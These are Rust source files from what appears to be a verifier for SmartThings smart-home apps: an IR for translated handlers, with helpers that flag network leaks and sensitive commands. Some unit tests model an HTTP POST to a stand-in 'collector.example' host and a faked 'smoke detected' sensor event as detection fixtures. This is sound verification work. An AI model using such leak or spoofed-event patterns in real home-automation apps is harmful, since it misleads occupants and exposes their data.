//! The paper's Translator (§6) converts SmartThings Groovy into Java ASTs for
//! Bandera and finally Promela for Spin.  Here the Groovy AST produced by
//! [`iotsan_groovy`] is lowered directly into a compact IR:
//!
//! * [`types`] — the dynamic [`Value`] domain and inferred static [`Type`]s;
//! * [`infer`] — anchor-point type inference (explicit declarations, constant
//!   assignments, known API returns, `preferences` kinds);
//! * [`expr`] / [`stmt`] — side-effect-free expressions and handler actions
//!   (device commands, messaging, scheduling, control flow);
//! * [`handler`] — translated apps ([`IrApp`]) and handlers ([`IrHandler`])
//!   with their [`Trigger`]s;
//! * [`intern`] — the [`Symbols`] string interner ([`Sym`] handles) the model
//!   generator uses to keep names out of the exploration hot loop;
//! * [`lower`] — the Groovy → IR translation, including desugaring of
//!   Groovy's collection utilities and inlining of helper methods.
//!
//! ```
//! use iotsan_groovy::SmartApp;
//! use iotsan_ir::{lower_app, Trigger};
//!
//! let src = r#"
//! definition(name: "Let There Be Dark!", namespace: "st", author: "x", description: "d")
//! preferences {
//!     section("contact") { input "contact1", "capability.contactSensor" }
//!     section("switches") { input "switches", "capability.switch", multiple: true }
//! }
//! def installed() { subscribe(contact1, "contact", contactHandler) }
//! def contactHandler(evt) {
//!     if (evt.value == "open") { switches.on() } else { switches.off() }
//! }
//! "#;
//! let app = lower_app(&SmartApp::parse(src).unwrap()).unwrap();
//! assert_eq!(app.handlers.len(), 1);
//! assert!(matches!(app.handlers[0].trigger, Trigger::Device { .. }));
//! ```

#![deny(missing_docs)]

pub mod expr;
pub mod handler;
pub mod infer;
pub mod intern;
pub mod lower;
pub mod stmt;
pub mod types;

pub use expr::{EventField, IrBinOp, IrExpr, Quantifier};
pub use handler::{AppInput, IrApp, IrHandler, SettingKind, Trigger};
pub use infer::{infer_app, TypeEnv};
pub use intern::{Sym, Symbols};
pub use lower::{lower_app, LowerError};
pub use stmt::{format_stmts, HttpMethod, IrStmt};
pub use types::{Type, Value};
