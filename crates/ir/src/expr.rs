//! IR expressions.
//!
//! An [`IrExpr`] is a side-effect-free expression evaluated against the model
//! checker's system state: device attributes, app settings, the event being
//! dispatched, the location mode, the app's persistent `state` map and handler
//! locals.

use crate::types::Value;
use std::fmt;

/// Fields of the event object (`evt`) passed to an event handler.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum EventField {
    /// `evt.value` — the string value of the event (`"on"`, `"active"`, ...).
    Value,
    /// `evt.doubleValue` / `evt.integerValue` / `evt.numericValue`.
    NumericValue,
    /// `evt.name` — the attribute name (`"motion"`, `"contact"`, ...).
    Name,
    /// `evt.deviceId` — identifier of the device that produced the event.
    DeviceId,
    /// `evt.displayName` — human-readable device name.
    DisplayName,
    /// `evt.isPhysical()` — whether the event came from the physical world.
    IsPhysical,
    /// `evt.date` / `evt.isoDate` — timestamp of the event.
    Date,
}

impl fmt::Display for EventField {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let s = match self {
            EventField::Value => "value",
            EventField::NumericValue => "doubleValue",
            EventField::Name => "name",
            EventField::DeviceId => "deviceId",
            EventField::DisplayName => "displayName",
            EventField::IsPhysical => "isPhysical",
            EventField::Date => "date",
        };
        write!(f, "{s}")
    }
}

/// Binary operators in the IR (a subset of Groovy's, after desugaring).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum IrBinOp {
    /// Addition (numeric) / concatenation (strings, lists).
    Add,
    /// Subtraction.
    Sub,
    /// Multiplication.
    Mul,
    /// Division.
    Div,
    /// Modulo.
    Mod,
    /// Loose equality.
    Eq,
    /// Loose inequality.
    NotEq,
    /// Less-than.
    Lt,
    /// Less-or-equal.
    Le,
    /// Greater-than.
    Gt,
    /// Greater-or-equal.
    Ge,
    /// Logical and (short-circuiting).
    And,
    /// Logical or (short-circuiting).
    Or,
    /// Membership test (`x in [..]`).
    In,
}

impl fmt::Display for IrBinOp {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let s = match self {
            IrBinOp::Add => "+",
            IrBinOp::Sub => "-",
            IrBinOp::Mul => "*",
            IrBinOp::Div => "/",
            IrBinOp::Mod => "%",
            IrBinOp::Eq => "==",
            IrBinOp::NotEq => "!=",
            IrBinOp::Lt => "<",
            IrBinOp::Le => "<=",
            IrBinOp::Gt => ">",
            IrBinOp::Ge => ">=",
            IrBinOp::And => "&&",
            IrBinOp::Or => "||",
            IrBinOp::In => "in",
        };
        write!(f, "{s}")
    }
}

/// Aggregation mode for quantified device-attribute predicates.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum Quantifier {
    /// `devices.any { it.currentX == v }` — at least one device matches.
    Any,
    /// `devices.every { it.currentX == v }` — all devices match.
    All,
    /// `devices.count { it.currentX == v }` — number of matching devices.
    Count,
}

/// A side-effect-free IR expression.
#[derive(Debug, Clone, PartialEq)]
pub enum IrExpr {
    /// A constant.
    Const(Value),
    /// The value of a non-device setting (`setpoint`, `minutes`, `phone`).
    Setting(String),
    /// The current value of `attribute` on the device(s) bound to `input`.
    /// For multi-device inputs this reads the first bound device; quantified
    /// reads use [`IrExpr::DeviceQuery`].
    DeviceAttr {
        /// The `preferences` input the device is bound to.
        input: String,
        /// The attribute read, e.g. `switch`, `temperature`, `lock`.
        attribute: String,
    },
    /// A quantified predicate/aggregate over all devices bound to `input`.
    DeviceQuery {
        /// The `preferences` input the devices are bound to.
        input: String,
        /// The attribute inspected.
        attribute: String,
        /// The value compared against (for `Any`/`All`), or the value counted.
        value: Box<IrExpr>,
        /// Aggregation mode.
        quantifier: Quantifier,
    },
    /// A field of the event currently being handled.
    EventField(EventField),
    /// The current location mode (`Home`, `Away`, `Night`).
    LocationMode,
    /// The modelled system time (monotonically increasing, in seconds).
    Time,
    /// A persistent app state variable (`state.lastOpened`).
    StateVar(String),
    /// A handler-local variable.
    Local(String),
    /// Unary logical negation.
    Not(Box<IrExpr>),
    /// Unary arithmetic negation.
    Neg(Box<IrExpr>),
    /// Binary operation.
    Binary {
        /// Operator.
        op: IrBinOp,
        /// Left operand.
        lhs: Box<IrExpr>,
        /// Right operand.
        rhs: Box<IrExpr>,
    },
    /// Conditional expression.
    Ternary {
        /// Condition.
        cond: Box<IrExpr>,
        /// Result when true.
        then: Box<IrExpr>,
        /// Result when false.
        els: Box<IrExpr>,
    },
    /// List construction.
    ListOf(Vec<IrExpr>),
    /// String concatenation of the rendered parts (lowered GStrings).
    Concat(Vec<IrExpr>),
    /// A call the translator could not interpret; evaluates to [`Value::Null`]
    /// but is preserved so diagnostics can report it.
    Opaque {
        /// The original call name, e.g. `getSunriseAndSunset`.
        name: String,
        /// Lowered arguments.
        args: Vec<IrExpr>,
    },
}

impl IrExpr {
    /// Constant string helper.
    pub fn str(s: impl Into<String>) -> IrExpr {
        IrExpr::Const(Value::Str(s.into()))
    }

    /// Constant integer helper.
    pub fn int(v: i64) -> IrExpr {
        IrExpr::Const(Value::Int(v))
    }

    /// Constant boolean helper.
    pub fn bool(v: bool) -> IrExpr {
        IrExpr::Const(Value::Bool(v))
    }

    /// Builds `lhs op rhs`.
    pub fn binary(op: IrBinOp, lhs: IrExpr, rhs: IrExpr) -> IrExpr {
        IrExpr::Binary { op, lhs: Box::new(lhs), rhs: Box::new(rhs) }
    }

    /// Builds an equality test between a device attribute and a string value,
    /// the most common guard in smart apps.
    pub fn attr_eq(
        input: impl Into<String>,
        attribute: impl Into<String>,
        value: impl Into<String>,
    ) -> IrExpr {
        IrExpr::binary(
            IrBinOp::Eq,
            IrExpr::DeviceAttr { input: input.into(), attribute: attribute.into() },
            IrExpr::str(value),
        )
    }

    /// Visits this expression and all sub-expressions (preorder).
    pub fn walk<'a>(&'a self, f: &mut impl FnMut(&'a IrExpr)) {
        f(self);
        match self {
            IrExpr::DeviceQuery { value, .. } => value.walk(f),
            IrExpr::Not(e) | IrExpr::Neg(e) => e.walk(f),
            IrExpr::Binary { lhs, rhs, .. } => {
                lhs.walk(f);
                rhs.walk(f);
            }
            IrExpr::Ternary { cond, then, els } => {
                cond.walk(f);
                then.walk(f);
                els.walk(f);
            }
            IrExpr::ListOf(items) | IrExpr::Concat(items) => {
                for e in items {
                    e.walk(f);
                }
            }
            IrExpr::Opaque { args, .. } => {
                for e in args {
                    e.walk(f);
                }
            }
            _ => {}
        }
    }

    /// Returns every `(input, attribute)` pair read by this expression.
    pub fn device_reads(&self) -> Vec<(String, String)> {
        let mut out = Vec::new();
        self.walk(&mut |e| match e {
            IrExpr::DeviceAttr { input, attribute } => out.push((input.clone(), attribute.clone())),
            IrExpr::DeviceQuery { input, attribute, .. } => {
                out.push((input.clone(), attribute.clone()))
            }
            _ => {}
        });
        out
    }

    /// True when the expression mentions the event object.
    pub fn reads_event(&self) -> bool {
        let mut found = false;
        self.walk(&mut |e| {
            if matches!(e, IrExpr::EventField(_)) {
                found = true;
            }
        });
        found
    }
}

impl fmt::Display for IrExpr {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            IrExpr::Const(v) => match v {
                Value::Str(s) => write!(f, "\"{s}\""),
                other => write!(f, "{other}"),
            },
            IrExpr::Setting(name) => write!(f, "settings.{name}"),
            IrExpr::DeviceAttr { input, attribute } => {
                write!(f, "{input}.current{}", upper_first(attribute))
            }
            IrExpr::DeviceQuery { input, attribute, value, quantifier } => {
                let q = match quantifier {
                    Quantifier::Any => "any",
                    Quantifier::All => "every",
                    Quantifier::Count => "count",
                };
                write!(f, "{input}.{q} {{ it.current{} == {value} }}", upper_first(attribute))
            }
            IrExpr::EventField(field) => write!(f, "evt.{field}"),
            IrExpr::LocationMode => write!(f, "location.mode"),
            IrExpr::Time => write!(f, "now()"),
            IrExpr::StateVar(name) => write!(f, "state.{name}"),
            IrExpr::Local(name) => write!(f, "{name}"),
            IrExpr::Not(e) => write!(f, "!({e})"),
            IrExpr::Neg(e) => write!(f, "-({e})"),
            IrExpr::Binary { op, lhs, rhs } => write!(f, "({lhs} {op} {rhs})"),
            IrExpr::Ternary { cond, then, els } => write!(f, "({cond} ? {then} : {els})"),
            IrExpr::ListOf(items) => {
                write!(f, "[")?;
                for (i, e) in items.iter().enumerate() {
                    if i > 0 {
                        write!(f, ", ")?;
                    }
                    write!(f, "{e}")?;
                }
                write!(f, "]")
            }
            IrExpr::Concat(parts) => {
                for (i, p) in parts.iter().enumerate() {
                    if i > 0 {
                        write!(f, " + ")?;
                    }
                    write!(f, "{p}")?;
                }
                Ok(())
            }
            IrExpr::Opaque { name, args } => {
                write!(f, "{name}(")?;
                for (i, a) in args.iter().enumerate() {
                    if i > 0 {
                        write!(f, ", ")?;
                    }
                    write!(f, "{a}")?;
                }
                write!(f, ")")
            }
        }
    }
}

fn upper_first(s: &str) -> String {
    let mut chars = s.chars();
    match chars.next() {
        Some(c) => c.to_uppercase().collect::<String>() + chars.as_str(),
        None => String::new(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn builders_construct_expected_shapes() {
        let e = IrExpr::attr_eq("lock1", "lock", "locked");
        let IrExpr::Binary { op: IrBinOp::Eq, lhs, rhs } = &e else { panic!() };
        assert!(matches!(**lhs, IrExpr::DeviceAttr { .. }));
        assert!(matches!(**rhs, IrExpr::Const(Value::Str(_))));
    }

    #[test]
    fn device_reads_collects_all_pairs() {
        let e = IrExpr::binary(
            IrBinOp::And,
            IrExpr::attr_eq("door", "contact", "open"),
            IrExpr::DeviceQuery {
                input: "lights".into(),
                attribute: "switch".into(),
                value: Box::new(IrExpr::str("on")),
                quantifier: Quantifier::Any,
            },
        );
        let reads = e.device_reads();
        assert_eq!(reads.len(), 2);
        assert!(reads.contains(&("door".into(), "contact".into())));
        assert!(reads.contains(&("lights".into(), "switch".into())));
    }

    #[test]
    fn reads_event_detection() {
        assert!(IrExpr::binary(
            IrBinOp::Eq,
            IrExpr::EventField(EventField::Value),
            IrExpr::str("active")
        )
        .reads_event());
        assert!(!IrExpr::attr_eq("x", "switch", "on").reads_event());
    }

    #[test]
    fn display_round_trips_common_shapes() {
        assert_eq!(
            IrExpr::attr_eq("lock1", "lock", "locked").to_string(),
            "(lock1.currentLock == \"locked\")"
        );
        assert_eq!(IrExpr::EventField(EventField::NumericValue).to_string(), "evt.doubleValue");
        assert_eq!(IrExpr::LocationMode.to_string(), "location.mode");
        assert_eq!(
            IrExpr::Ternary {
                cond: Box::new(IrExpr::bool(true)),
                then: Box::new(IrExpr::int(1)),
                els: Box::new(IrExpr::int(0)),
            }
            .to_string(),
            "(true ? 1 : 0)"
        );
    }
}
