//! Translated apps and event handlers.
//!
//! An [`IrApp`] is the unit the rest of IotSan works with: the app's declared
//! inputs, its event handlers lowered to IR, and flags for behaviours the
//! paper calls out (dynamic device discovery, which IotSan cannot verify).

use crate::expr::IrExpr;
use crate::stmt::IrStmt;
use std::collections::BTreeSet;
use std::fmt;

/// What kind of value an app input holds once configured.
#[derive(Debug, Clone, PartialEq, Eq, Hash)]
pub enum SettingKind {
    /// One or more devices exposing the given capability.
    Device {
        /// Capability name (SmartThings style, e.g. `motionSensor`, `switch`).
        capability: String,
        /// True when the user may bind several devices.
        multiple: bool,
    },
    /// Integer number.
    Number,
    /// Decimal number.
    Decimal,
    /// Boolean.
    Bool,
    /// Free text.
    Text,
    /// One of a fixed set of options.
    Enum(Vec<String>),
    /// A time of day.
    Time,
    /// A phone number (SMS recipient).
    Phone,
    /// Contact-book recipients.
    Contact,
    /// A location mode name.
    Mode,
    /// Anything else.
    Other(String),
}

impl SettingKind {
    /// The capability name when this is a device input.
    pub fn capability(&self) -> Option<&str> {
        match self {
            SettingKind::Device { capability, .. } => Some(capability),
            _ => None,
        }
    }

    /// True when this input selects devices.
    pub fn is_device(&self) -> bool {
        matches!(self, SettingKind::Device { .. })
    }
}

/// A configurable input of an app (from the `preferences` block).
#[derive(Debug, Clone, PartialEq)]
pub struct AppInput {
    /// Settings variable name.
    pub name: String,
    /// What the input holds.
    pub kind: SettingKind,
    /// Title shown to the user.
    pub title: String,
    /// Whether the user must configure it.
    pub required: bool,
}

impl AppInput {
    /// Creates a required single-device input.
    pub fn device(name: impl Into<String>, capability: impl Into<String>) -> Self {
        AppInput {
            name: name.into(),
            kind: SettingKind::Device { capability: capability.into(), multiple: false },
            title: String::new(),
            required: true,
        }
    }
}

/// What causes a handler to run.
#[derive(Debug, Clone, PartialEq, Eq, Hash)]
pub enum Trigger {
    /// An event from the device(s) bound to `input`.
    Device {
        /// Input name the subscription was made on.
        input: String,
        /// Attribute of interest (`motion`, `contact`, `temperature`, ...).
        attribute: String,
        /// Specific value (`active`, `open`), or `None` for any value.
        value: Option<String>,
    },
    /// A location-mode change event.
    LocationMode {
        /// Specific mode, or `None` for any mode change.
        value: Option<String>,
    },
    /// A location position event such as sunrise or sunset.
    LocationEvent {
        /// Event name (`sunrise`, `sunset`).
        name: String,
    },
    /// The user tapped the app in the companion app (`subscribe(app, "touch", ...)`).
    AppTouch,
    /// A scheduled timer (`schedule`, `runIn`, `runEveryNMinutes`).
    Timer {
        /// Delay in seconds when known.
        delay_seconds: Option<i64>,
    },
}

impl Trigger {
    /// The event attribute this trigger listens on, in the `attribute` form
    /// used by the dependency analyzer (`location/mode`, `app/touch`, `time/tick`).
    pub fn attribute(&self) -> String {
        match self {
            Trigger::Device { attribute, .. } => attribute.clone(),
            Trigger::LocationMode { .. } => "mode".to_string(),
            Trigger::LocationEvent { name } => name.clone(),
            Trigger::AppTouch => "touch".to_string(),
            Trigger::Timer { .. } => "time".to_string(),
        }
    }
}

impl fmt::Display for Trigger {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Trigger::Device { input, attribute, value } => match value {
                Some(v) => write!(f, "{input}:{attribute}.{v}"),
                None => write!(f, "{input}:{attribute}"),
            },
            Trigger::LocationMode { value } => match value {
                Some(v) => write!(f, "location/mode.{v}"),
                None => write!(f, "location/mode"),
            },
            Trigger::LocationEvent { name } => write!(f, "location/{name}"),
            Trigger::AppTouch => write!(f, "app/touch"),
            Trigger::Timer { delay_seconds } => match delay_seconds {
                Some(d) => write!(f, "timer/{d}s"),
                None => write!(f, "timer"),
            },
        }
    }
}

/// A single translated event handler.
#[derive(Debug, Clone, PartialEq)]
pub struct IrHandler {
    /// Name of the app this handler belongs to.
    pub app: String,
    /// The handler method's name (e.g. `motionActiveHandler`).
    pub name: String,
    /// What triggers it.
    pub trigger: Trigger,
    /// Lowered body.
    pub body: Vec<IrStmt>,
}

impl IrHandler {
    /// Every `(input, command)` pair the handler may send.
    pub fn device_commands(&self) -> Vec<(String, String)> {
        self.body.iter().flat_map(|s| s.device_commands()).collect()
    }

    /// Every `(input, attribute)` pair the handler may read.
    pub fn device_reads(&self) -> Vec<(String, String)> {
        let mut out = Vec::new();
        for stmt in &self.body {
            stmt.walk(&mut |s| collect_stmt_reads(s, &mut out));
        }
        out
    }

    /// True when the handler changes the location mode.
    pub fn sets_location_mode(&self) -> bool {
        self.body.iter().any(|s| s.sets_location_mode())
    }

    /// True when the handler uses a network interface (potential leak).
    pub fn uses_network(&self) -> bool {
        let mut found = false;
        for stmt in &self.body {
            stmt.walk(&mut |s| {
                if matches!(s, IrStmt::HttpRequest { .. }) {
                    found = true;
                }
            });
        }
        found
    }

    /// True when the handler executes a security-sensitive command
    /// (`unsubscribe` or a synthetic `sendEvent`).
    pub fn uses_sensitive_command(&self) -> bool {
        let mut found = false;
        for stmt in &self.body {
            stmt.walk(&mut |s| {
                if matches!(s, IrStmt::Unsubscribe | IrStmt::SendEvent { .. }) {
                    found = true;
                }
            });
        }
        found
    }
}

fn collect_stmt_reads(stmt: &IrStmt, out: &mut Vec<(String, String)>) {
    let mut visit_expr = |e: &IrExpr| out.extend(e.device_reads());
    match stmt {
        IrStmt::DeviceCommand { args, .. } => args.iter().for_each(&mut visit_expr),
        IrStmt::SetLocationMode(e) | IrStmt::Log(e) | IrStmt::Return(Some(e)) => visit_expr(e),
        IrStmt::SendSms { recipient, message } => {
            visit_expr(recipient);
            visit_expr(message);
        }
        IrStmt::SendPush { message } => visit_expr(message),
        IrStmt::HttpRequest { url, payload, .. } => {
            visit_expr(url);
            if let Some(p) = payload {
                visit_expr(p);
            }
        }
        IrStmt::SendEvent { value, .. } => visit_expr(value),
        IrStmt::AssignState { value, .. } | IrStmt::AssignLocal { value, .. } => visit_expr(value),
        IrStmt::If { cond, .. } => visit_expr(cond),
        IrStmt::While { cond, .. } => visit_expr(cond),
        IrStmt::Schedule { delay_seconds: Some(d), .. } => visit_expr(d),
        IrStmt::OpaqueCall { args, .. } => args.iter().for_each(&mut visit_expr),
        _ => {}
    }
}

/// A fully translated smart app.
#[derive(Debug, Clone, PartialEq)]
pub struct IrApp {
    /// App display name.
    pub name: String,
    /// App description (from `definition`).
    pub description: String,
    /// Declared inputs.
    pub inputs: Vec<AppInput>,
    /// Translated event handlers.
    pub handlers: Vec<IrHandler>,
    /// Names of persistent `state.*` variables the app writes.
    pub state_vars: Vec<String>,
    /// True when the app discovers devices dynamically (e.g. via
    /// `getChildDevices()` or `location.devices`); the paper excludes such
    /// apps (§10.1) because they can control any device without permission.
    pub dynamic_discovery: bool,
}

impl IrApp {
    /// Finds an input by name.
    pub fn input(&self, name: &str) -> Option<&AppInput> {
        self.inputs.iter().find(|i| i.name == name)
    }

    /// All device-typed input names.
    pub fn device_input_names(&self) -> Vec<&str> {
        self.inputs.iter().filter(|i| i.kind.is_device()).map(|i| i.name.as_str()).collect()
    }

    /// A handler by name.
    pub fn handler(&self, name: &str) -> Option<&IrHandler> {
        self.handlers.iter().find(|h| h.name == name)
    }

    /// The set of capabilities this app requires to be configured.
    pub fn required_capabilities(&self) -> BTreeSet<String> {
        self.inputs
            .iter()
            .filter(|i| i.required)
            .filter_map(|i| i.kind.capability().map(str::to_string))
            .collect()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::expr::IrExpr;

    fn handler_with(body: Vec<IrStmt>) -> IrHandler {
        IrHandler {
            app: "Test".into(),
            name: "h".into(),
            trigger: Trigger::Device {
                input: "motion".into(),
                attribute: "motion".into(),
                value: Some("active".into()),
            },
            body,
        }
    }

    #[test]
    fn trigger_attribute_and_display() {
        assert_eq!(Trigger::AppTouch.attribute(), "touch");
        assert_eq!(Trigger::LocationMode { value: None }.attribute(), "mode");
        assert_eq!(
            Trigger::Device {
                input: "d".into(),
                attribute: "contact".into(),
                value: Some("open".into())
            }
            .to_string(),
            "d:contact.open"
        );
        assert_eq!(Trigger::Timer { delay_seconds: Some(60) }.to_string(), "timer/60s");
    }

    #[test]
    fn handler_classification_helpers() {
        let h = handler_with(vec![
            IrStmt::If {
                cond: IrExpr::attr_eq("door", "contact", "open"),
                then: vec![IrStmt::DeviceCommand {
                    input: "lights".into(),
                    command: "on".into(),
                    args: vec![],
                }],
                els: vec![IrStmt::HttpRequest {
                    method: crate::stmt::HttpMethod::Post,
                    url: IrExpr::str("http://collector.example"),
                    payload: None,
                }],
            },
            IrStmt::SetLocationMode(IrExpr::str("Away")),
        ]);
        assert_eq!(h.device_commands(), vec![("lights".to_string(), "on".to_string())]);
        assert_eq!(h.device_reads(), vec![("door".to_string(), "contact".to_string())]);
        assert!(h.sets_location_mode());
        assert!(h.uses_network());
        assert!(!h.uses_sensitive_command());
    }

    #[test]
    fn sensitive_command_detection() {
        let h = handler_with(vec![IrStmt::SendEvent {
            attribute: "smoke".into(),
            value: IrExpr::str("detected"),
        }]);
        assert!(h.uses_sensitive_command());
        let h = handler_with(vec![IrStmt::Unsubscribe]);
        assert!(h.uses_sensitive_command());
    }

    #[test]
    fn app_accessors() {
        let app = IrApp {
            name: "A".into(),
            description: String::new(),
            inputs: vec![
                AppInput::device("motion", "motionSensor"),
                AppInput {
                    name: "minutes".into(),
                    kind: SettingKind::Number,
                    title: String::new(),
                    required: false,
                },
            ],
            handlers: vec![handler_with(vec![])],
            state_vars: vec![],
            dynamic_discovery: false,
        };
        assert_eq!(app.device_input_names(), vec!["motion"]);
        assert!(app.input("minutes").is_some());
        assert!(app.handler("h").is_some());
        assert_eq!(app.required_capabilities().len(), 1);
    }
}
