//! IR statements.
//!
//! An [`IrStmt`] is an action performed by an event handler: commanding an
//! actuator, messaging the user, touching app state, or control flow.  The
//! model checker interprets these directly (Algorithm 1,
//! `app_event_handler`), and the Promela emitter pretty-prints them.

use crate::expr::IrExpr;
use std::fmt;

/// HTTP request kinds used by smart apps (network interfaces; relevant for
/// the information-leakage properties).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum HttpMethod {
    /// `httpGet` and friends.
    Get,
    /// `httpPost`, `httpPostJson`, `httpPutJson`, ...
    Post,
}

impl fmt::Display for HttpMethod {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            HttpMethod::Get => write!(f, "httpGet"),
            HttpMethod::Post => write!(f, "httpPost"),
        }
    }
}

/// An IR statement.
#[derive(Debug, Clone, PartialEq)]
pub enum IrStmt {
    /// Send `command` to every device bound to `input`
    /// (e.g. `outlets.on()`, `lock1.unlock()`, `thermostat.setHeatingSetpoint(70)`).
    DeviceCommand {
        /// The `preferences` input naming the actuator(s).
        input: String,
        /// Command name, e.g. `on`, `off`, `lock`, `unlock`, `setLevel`.
        command: String,
        /// Command arguments.
        args: Vec<IrExpr>,
    },
    /// Change the location mode (`setLocationMode("Away")`, `location.mode = x`).
    SetLocationMode(IrExpr),
    /// Send an SMS to `recipient` (`sendSms`, `sendSmsMessage`).
    SendSms {
        /// Recipient phone number expression (usually a `phone` setting).
        recipient: IrExpr,
        /// Message body.
        message: IrExpr,
    },
    /// Send a push notification through the companion app.
    SendPush {
        /// Message body.
        message: IrExpr,
    },
    /// Issue an HTTP request to an external service (a *network interface* in
    /// the paper's terminology — information can leak through here).
    HttpRequest {
        /// GET or POST.
        method: HttpMethod,
        /// Target URL.
        url: IrExpr,
        /// Optional request body.
        payload: Option<IrExpr>,
    },
    /// Raise a synthetic device event (`sendEvent(name: "smoke", value: "detected")`).
    /// Malicious apps use this to fake sensor readings.
    SendEvent {
        /// The attribute the fake event claims to be for.
        attribute: String,
        /// The claimed value.
        value: IrExpr,
    },
    /// Remove all of the app's subscriptions (`unsubscribe()`), a
    /// security-sensitive command.
    Unsubscribe,
    /// Cancel scheduled callbacks (`unschedule()`).
    Unschedule,
    /// Schedule `handler` to run after `delay_seconds` (or per cron).
    Schedule {
        /// Handler method name.
        handler: String,
        /// Delay in seconds, when known statically.
        delay_seconds: Option<IrExpr>,
    },
    /// Write an app persistent state variable (`state.x = e`).
    AssignState {
        /// Variable name.
        name: String,
        /// New value.
        value: IrExpr,
    },
    /// Write a handler-local variable.
    AssignLocal {
        /// Variable name.
        name: String,
        /// New value.
        value: IrExpr,
    },
    /// Conditional execution.
    If {
        /// Guard.
        cond: IrExpr,
        /// Statements when the guard holds.
        then: Vec<IrStmt>,
        /// Statements when it does not.
        els: Vec<IrStmt>,
    },
    /// Bounded loop over an integer range or list; the interpreter caps the
    /// iteration count to keep the state space finite.
    While {
        /// Loop guard.
        cond: IrExpr,
        /// Loop body.
        body: Vec<IrStmt>,
    },
    /// Iterate over the devices bound to `input`, applying `command` is not
    /// enough for bodies that also read state, so the body is kept verbatim;
    /// inside the body, [`IrExpr::DeviceAttr`]/[`IrStmt::DeviceCommand`] with
    /// the same `input` refer to the *current* device of the iteration.
    ForEachDevice {
        /// The device-list input iterated over.
        input: String,
        /// Loop body.
        body: Vec<IrStmt>,
    },
    /// Early return from the handler.
    Return(Option<IrExpr>),
    /// Log output (`log.debug`, `log.info`, ...) — kept for traceability.
    Log(IrExpr),
    /// A call to an app method that could not be inlined (recursion or
    /// dynamic dispatch); interpreted as a no-op but recorded for diagnostics.
    OpaqueCall {
        /// Called method name.
        name: String,
        /// Lowered arguments.
        args: Vec<IrExpr>,
    },
}

impl IrStmt {
    /// Visits this statement and every nested statement (preorder).
    pub fn walk<'a>(&'a self, f: &mut impl FnMut(&'a IrStmt)) {
        f(self);
        match self {
            IrStmt::If { then, els, .. } => {
                for s in then {
                    s.walk(f);
                }
                for s in els {
                    s.walk(f);
                }
            }
            IrStmt::While { body, .. } | IrStmt::ForEachDevice { body, .. } => {
                for s in body {
                    s.walk(f);
                }
            }
            _ => {}
        }
    }

    /// Every `(input, command)` pair this statement may send to an actuator.
    pub fn device_commands(&self) -> Vec<(String, String)> {
        let mut out = Vec::new();
        self.walk(&mut |s| {
            if let IrStmt::DeviceCommand { input, command, .. } = s {
                out.push((input.clone(), command.clone()));
            }
        });
        out
    }

    /// True when this statement (or a nested one) changes the location mode.
    pub fn sets_location_mode(&self) -> bool {
        let mut found = false;
        self.walk(&mut |s| {
            if matches!(s, IrStmt::SetLocationMode(_)) {
                found = true;
            }
        });
        found
    }

    /// True when this statement performs a message or network send.
    pub fn is_communication(&self) -> bool {
        matches!(
            self,
            IrStmt::SendSms { .. } | IrStmt::SendPush { .. } | IrStmt::HttpRequest { .. }
        )
    }
}

/// Formats a list of statements with indentation, for logs and Promela
/// comments.
pub fn format_stmts(stmts: &[IrStmt], indent: usize) -> String {
    let mut out = String::new();
    let pad = "    ".repeat(indent);
    for s in stmts {
        match s {
            IrStmt::If { cond, then, els } => {
                out.push_str(&format!("{pad}if ({cond}) {{\n"));
                out.push_str(&format_stmts(then, indent + 1));
                if els.is_empty() {
                    out.push_str(&format!("{pad}}}\n"));
                } else {
                    out.push_str(&format!("{pad}}} else {{\n"));
                    out.push_str(&format_stmts(els, indent + 1));
                    out.push_str(&format!("{pad}}}\n"));
                }
            }
            IrStmt::While { cond, body } => {
                out.push_str(&format!("{pad}while ({cond}) {{\n"));
                out.push_str(&format_stmts(body, indent + 1));
                out.push_str(&format!("{pad}}}\n"));
            }
            IrStmt::ForEachDevice { input, body } => {
                out.push_str(&format!("{pad}{input}.each {{\n"));
                out.push_str(&format_stmts(body, indent + 1));
                out.push_str(&format!("{pad}}}\n"));
            }
            IrStmt::DeviceCommand { input, command, args } => {
                let rendered: Vec<String> = args.iter().map(|a| a.to_string()).collect();
                out.push_str(&format!("{pad}{input}.{command}({})\n", rendered.join(", ")));
            }
            IrStmt::SetLocationMode(e) => out.push_str(&format!("{pad}setLocationMode({e})\n")),
            IrStmt::SendSms { recipient, message } => {
                out.push_str(&format!("{pad}sendSms({recipient}, {message})\n"))
            }
            IrStmt::SendPush { message } => out.push_str(&format!("{pad}sendPush({message})\n")),
            IrStmt::HttpRequest { method, url, .. } => {
                out.push_str(&format!("{pad}{method}({url})\n"))
            }
            IrStmt::SendEvent { attribute, value } => {
                out.push_str(&format!("{pad}sendEvent(name: \"{attribute}\", value: {value})\n"))
            }
            IrStmt::Unsubscribe => out.push_str(&format!("{pad}unsubscribe()\n")),
            IrStmt::Unschedule => out.push_str(&format!("{pad}unschedule()\n")),
            IrStmt::Schedule { handler, delay_seconds } => match delay_seconds {
                Some(d) => out.push_str(&format!("{pad}runIn({d}, {handler})\n")),
                None => out.push_str(&format!("{pad}schedule({handler})\n")),
            },
            IrStmt::AssignState { name, value } => {
                out.push_str(&format!("{pad}state.{name} = {value}\n"))
            }
            IrStmt::AssignLocal { name, value } => {
                out.push_str(&format!("{pad}{name} = {value}\n"))
            }
            IrStmt::Return(Some(e)) => out.push_str(&format!("{pad}return {e}\n")),
            IrStmt::Return(None) => out.push_str(&format!("{pad}return\n")),
            IrStmt::Log(e) => out.push_str(&format!("{pad}log.debug {e}\n")),
            IrStmt::OpaqueCall { name, args } => {
                let rendered: Vec<String> = args.iter().map(|a| a.to_string()).collect();
                out.push_str(&format!("{pad}{name}({})\n", rendered.join(", ")));
            }
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::expr::IrExpr;

